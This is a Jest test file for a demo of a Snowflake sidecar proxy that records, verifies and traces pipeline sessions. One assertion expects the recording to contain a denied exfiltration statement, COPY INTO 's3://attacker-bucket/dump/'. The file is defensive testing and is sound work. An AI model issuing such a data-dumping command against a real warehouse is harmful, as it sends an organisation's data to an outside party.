/**
 * The README's main job, run as a test: the demo must show a denied exfiltration, a chunked result
 * through the sidecar, a verified recording and the trace of the output table.
 */
import { describe, expect, it } from '@jest/globals';
import { runDemo } from '../src/demo/run-demo.js';

describe('snowtrail demo', () => {
  it('runs the pipeline through the sidecar and shows the verified, traceable recording', async () => {
    const lines: string[] = [];
    const report = await runDemo({ eventRows: 30_000, out: (l) => lines.push(l) });
    const output = lines.join('\n');

    expect(report.pipeline.largeRows).toBe(30_000);
    expect(report.pipeline.appended).toBe(1);
    expect(report.pipeline.revenueByCountry.map((r) => r.COUNTRY)).toEqual(['AT', 'FR', 'GB', 'US']);
    expect(report.pipeline.denied).toMatchObject({ code: '003001', sqlState: '42501' });
    // Secretless by default: Snowflake trusts the pod's service account; no key pair exists anywhere.
    expect(output).toMatch(/Snowflake saw only the sidecar's logins: SNOWTRAIL_SVC\/WORKLOAD_IDENTITY\n/);
    expect(output).toContain("CREATE USER SNOWTRAIL_SVC TYPE = SERVICE WORKLOAD_IDENTITY = (TYPE = OIDC ISSUER = 'http://127.0.0.1:");
    expect(report.scratchFiles).not.toContain('snowflake-key.pem');
    expect(report.scratchFiles).toContain('snowflake-token');
    expect(output).toMatch(/[1-9][0-9.]* MiB of result chunks crossed the sidecar/);

    expect(report.outputs.list).toContain(report.sessionId);
    expect(report.outputs.show).toContain('denied');
    expect(report.outputs.show).toContain("COPY INTO 's3://attacker-bucket/dump/'");
    expect(report.verifyExitCode).toBe(0);
    expect(report.outputs.verify).toMatch(/^OK\s/m);
    const traceRows = report.outputs.trace.split('\n').filter((l) => l.includes(report.sessionId));
    expect(traceRows).toHaveLength(2);
    expect(traceRows[0]).toContain('INSERT INTO ANALYTICS.PUBLIC.DAILY_REVENUE');
    expect(traceRows[1]).toContain('CREATE OR REPLACE TABLE ANALYTICS.PUBLIC.DAILY_REVENUE');
    expect(traceRows[1]).toContain('pipelines/daily-revenue-29123456-abcde');
  }, 240_000);

  it('keeps the key-pair path behind --key-pair', async () => {
    const lines: string[] = [];
    const report = await runDemo({ eventRows: 2_000, keyPair: true, out: (l) => lines.push(l) });
    expect(lines.join('\n')).toMatch(/Snowflake saw only the sidecar's logins: SNOWTRAIL_SVC\/SNOWFLAKE_JWT\n/);
    expect(report.scratchFiles).toContain('snowflake-key.pem');
    expect(report.scratchFiles).not.toContain('snowflake-token');
    expect(report.pipeline.denied).toMatchObject({ code: '003001' });
    expect(report.verifyExitCode).toBe(0);
  }, 240_000);
});
